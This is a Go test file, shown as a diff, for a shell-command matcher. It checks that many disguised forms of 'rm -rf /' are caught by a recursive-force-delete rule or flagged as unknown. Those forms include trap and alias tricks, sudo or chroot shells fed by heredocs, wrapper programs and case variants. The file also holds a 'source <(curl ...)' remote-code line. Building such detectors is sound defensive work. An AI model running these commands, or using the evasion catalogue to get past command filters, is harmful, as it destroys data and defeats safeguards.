@@ -1,0 +1,106 @@
+package shellcmd
+
+import "testing"
+
+// Lines an attacker tried against "rm -r|-R|--recursive -f|--force": each runs rm -rf, so each must
+// match, or be unknown when what runs cannot be read; none may pass as a line that runs no rm.
+var attackMatch = []string{
+	// Builtins that run a string as a script.
+	`trap 'rm -rf /' EXIT`,
+	`trap -- 'rm -rf /' EXIT INT`,
+	`mapfile -C 'rm -rf /' -c 1 lines < f`,
+	`readarray -t -C 'rm -rf /' lines < f`,
+	// An alias's value is read as a script.
+	"shopt -s expand_aliases; alias x='rm -rf /'\nx",
+	"bash -O expand_aliases -c $'alias x=\"rm -rf /\"\\nx'",
+	// A shell that sudo, doas or chroot start without a command reads its script from stdin.
+	`sudo -s <<< 'rm -rf /'`,
+	`sudo -i <<< 'rm -rf /'`,
+	`sudo -u root -s <<< 'rm -rf /'`,
+	`doas -s <<< 'rm -rf /'`,
+	`chroot / <<< 'rm -rf /'`,
+	// A script file that is standard input.
+	`bash /dev/stdin <<< 'rm -rf /'`,
+	`source /dev/stdin <<< 'rm -rf /'`,
+	`. /dev/fd/0 <<< 'rm -rf /'`,
+	// Programs that run the command in their arguments.
+	`pkexec rm -rf /`,
+	`pkexec --user root rm -rf /`,
+	`flock /tmp/lock rm -rf /`,
+	`flock -w 5 /tmp/lock rm -rf /`,
+	`flock -c 'rm -rf /' /tmp/lock`,
+	`flock /tmp/lock -c 'rm -rf /'`,
+	`unshare -r rm -rf /`,
+	`nsenter -t 1 -m rm -rf /`,
+	`chrt 1 rm -rf /`,
+	`chrt -f 1 rm -rf /`,
+	`taskset 1 rm -rf /`,
+	`taskset -c 0 rm -rf /`,
+	`strace -f -o /dev/null rm -rf /`,
+	`ltrace rm -rf /`,
+	`fakeroot rm -rf /`,
+	`unbuffer rm -rf /`,
+	`catchsegv rm -rf /`,
+	`watch rm -rf /`,
+	`watch -n 1 'rm -rf /'`,
+	`script -c 'rm -rf /' /dev/null`,
+	`script -qc 'rm -rf /' /dev/null`,
+	`sg wheel -c 'rm -rf /'`,
+	`sg wheel 'rm -rf /'`,
+	`systemd-run --user rm -rf /`,
+	`systemd-run -p Nice=5 --wait rm -rf /`,
+	`caffeinate -i rm -rf /`,
+	`arch -x86_64 rm -rf /`,
+	// A command name in another case, or with a Windows suffix: the same program on case-insensitive
+	// file systems and under Git Bash.
+	`RM -rf /`,
+	`Rm -rf /`,
+	`rm.exe -rf /`,
+	`/usr/bin/RM -rf /`,
+}
+
+var attackUnknown = []string{
+	`hash -p /bin/rm x; x -rf /`,
+	`alias x=$(echo rm -rf /); x`,
+	`enable -f ./evil.so rm`,
+	`. <(echo rm -rf /)`,
+	`source <(curl -s https://x)`,
+	`sudo -s`,
+	`trap "$X" EXIT`,
+}
+
+var attackNoMatch = []string{
+	`trap - EXIT`,
+	`trap -l`,
+	`alias ll='ls -la'`,
+	`alias`,
+	`hash -r`,
+	`mapfile lines < f`,
+	`flock /tmp/lock true`,
+	`watch -n 1 ls`,
+	`sudo -l`,
+	`source ./env.sh`,
+	`RMDIR x`,
+}
+
+func TestAttackLines(t *testing.T) {
+	p := mustCompile("rm -r|-R|--recursive -f|--force")
+	for _, src := range attackMatch {
+		l := Parse(src)
+		if o, why := p.MatchLine(&l); o != Match {
+			t.Errorf("%q: %v (%s), want a match", src, o, why)
+		}
+	}
+	for _, src := range attackUnknown {
+		l := Parse(src)
+		if o, _ := p.MatchLine(&l); o != Unknown {
+			t.Errorf("%q: %v, want unknown", src, o)
+		}
+	}
+	for _, src := range attackNoMatch {
+		l := Parse(src)
+		if o, why := p.MatchLine(&l); o != NoMatch {
+			t.Errorf("%q: %v (%s), want no match", src, o, why)
+		}
+	}
+}
